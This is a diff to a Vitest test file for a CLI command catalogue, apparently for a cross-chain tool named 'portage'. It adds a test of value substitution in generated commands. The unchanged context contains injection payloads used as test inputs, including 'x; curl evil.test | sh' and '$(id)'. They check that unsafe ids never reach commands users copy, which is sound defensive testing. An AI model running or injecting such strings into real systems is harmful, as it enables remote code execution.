@@ -1,6 +1,7 @@
 import { expect, test } from 'vitest'
 import { commandsOf } from '../../../domain/catalogue/cause.ts'
 import { causeCatalogue } from '../../../domain/catalogue/catalogue.ts'
+import { lane } from './facts.ts'
 
 test.each(['x; curl evil.test | sh', '$(id)', '`id`', "a'b", '-rf', '--all', 'a b', 'a\nb', ''])(
   'no command that people copy contains the unsafe id %s',
@@ -21,6 +22,7 @@ test.each(['x; curl evil.test | sh', '$(id)', '`id`', "a'b", '-rf', '--all', 'a 
         'party',
         'nonce',
         'receiver',
+        'version',
       ]
       const values = Object.fromEntries(names.filter((name) => name !== 'scope').map((name) => [name, id]))
       expect(commandsOf(code, values)).toEqual(commandsOf(code, {}))
@@ -29,3 +31,11 @@ test.each(['x; curl evil.test | sh', '$(id)', '`id`', "a'b", '-rf', '--all', 'a 
     expect(commandsOf('HALTED', { scope: '--source ethereum --target bsc' })[1]).toContain('unhalt --source ethereum --target bsc --reason')
   },
 )
+
+test('commands have their values, and unknown values stay in <…>', () => {
+  expect(commandsOf('LANE_FUNDS', { lane, 'other lane': 'evm-1:0xaa' })).toEqual([
+    `portage lane show ${lane}`,
+    `portage lane top-up ${lane} --from evm-1:0xaa --amount <wei> --wait`,
+  ])
+  expect(Object.keys(causeCatalogue).length).toBeGreaterThan(40)
+})
